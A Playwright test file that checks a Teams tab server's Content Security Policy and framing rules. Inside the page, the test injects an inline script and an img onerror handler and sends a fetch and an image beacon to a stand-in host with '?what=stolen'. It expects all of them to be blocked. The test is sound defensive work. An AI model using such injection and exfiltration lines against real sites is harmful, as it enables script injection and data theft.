import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Browser, Frame, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, expect, it } from 'vitest';
import { startTenantServer, type TenantServer } from '../../src/start/tenant-server.ts';
import { openBrowser } from '../setup/browser.ts';
import { leavePages } from '../setup/pages.ts';
import { freePorts } from '../setup/product.ts';
import { createTokenAuthority } from '../setup/token-authority.ts';

const ROOT = fileURLToPath(new URL('../../', import.meta.url));
const TENANT = '6e1f2a34-0000-4000-8000-00000000000a';
const TAB = '6e1f2a34-0000-4000-8000-00000000000b';
const BOT = '6e1f2a34-0000-4000-8000-00000000000c';

let browser: Browser;
let server: TenantServer;
let origin: string;

const PUBLIC = 'https://plans.example.org';
const TEAMS = 'https://teams.microsoft.com/';
const STRANGER = 'https://teams.microsoft.com.example.org/';

beforeAll(async () => {
  const [port = 0] = await freePorts(1);
  origin = `http://127.0.0.1:${port}`;
  const authority = createTokenAuthority({ tenantId: TENANT, clientId: BOT, tokenFor: () => '' });
  authority.refuse('AADSTS700016');
  server = await startTenantServer(
    {
      publicUrl: PUBLIC,
      listen: '127.0.0.1',
      port,
      tenantId: TENANT,
      tab: { clientId: TAB, sites: 'selected', people: false },
      bot: { clientId: BOT, proof: { kind: 'secret', secret: 'hush' } },
      sites: { given: [] },
      noticesSecret: null,
      metricsToken: null,
    },
    {
      folder: join(ROOT, '.build', 'tab'),
      say: () => undefined,
      services: { network: authority.network },
      endTimes: { drained: () => Promise.resolve(), settleMs: 5_000, answerMs: 0 },
    },
  );
  browser = await openBrowser();
});
afterEach(async () => {
  for (const context of browser.contexts()) await context.unrouteAll({ behavior: 'ignoreErrors' });
  await leavePages(browser);
});
afterAll(() => server.close());

const FRAMING = `<!doctype html><title>A host</title><iframe src="${PUBLIC}/"></iframe>`;

/** A page that reaches the server by its public name, finds a page with the tab in it at two others, and nothing beside. */
async function openPage(): Promise<Page> {
  const context = await browser.newContext({ serviceWorkers: 'block' });
  await context.route('**', async (route) => {
    const url = route.request().url();
    if ([TEAMS, STRANGER].includes(url)) return route.fulfill({ contentType: 'text/html', body: FRAMING });
    if (!url.startsWith(`${PUBLIC}/`)) return route.abort();
    return route.fulfill({ response: await route.fetch({ url: url.replace(PUBLIC, origin) }) });
  });
  return context.newPage();
}

/** The frame in a page, once something stands in it. */
async function frameOf(page: Page): Promise<Frame | null> {
  const element = await page.waitForSelector('iframe');
  const frame = await element.contentFrame();
  await frame?.waitForLoadState();
  return frame;
}

it('the page comes up under its policy, in which no script of another’s runs and nothing goes elsewhere', async () => {
  const page = await openPage();
  const refused: string[] = [];
  page.on('console', (message) => {
    if (message.text().includes('Content Security Policy')) refused.push(message.text());
  });
  await page.goto(PUBLIC);
  await page.waitForFunction(() => (document.getElementById('root')?.childElementCount ?? 0) > 0);
  expect(refused).toEqual([]);
  const outcome = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.ran = true';
    document.body.append(script);
    document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.ran = true">');
    const sent = await fetch('https://example.org/?what=stolen', { mode: 'no-cors' }).then(
      () => 'sent',
      () => 'refused',
    );
    const picture = new Image();
    const drawn = await new Promise((resolve) => {
      picture.addEventListener('load', () => resolve('drawn'));
      picture.addEventListener('error', () => resolve('refused'));
      picture.src = 'https://example.org/?what=stolen';
    });
    return { ran: 'ran' in window, sent, drawn };
  });
  expect(outcome).toEqual({ ran: false, sent: 'refused', drawn: 'refused' });
  // The script, the handler, the request and the picture.
  expect(refused.length).toBeGreaterThanOrEqual(4);
});

it('Teams may frame the page, and a stranger may not', async () => {
  const page = await openPage();
  await page.goto(TEAMS);
  expect(await (await frameOf(page))?.title()).toBe('Action Plan Monitor');
  await page.goto(STRANGER);
  expect((await frameOf(page))?.url()).toContain('chrome-error:');
});
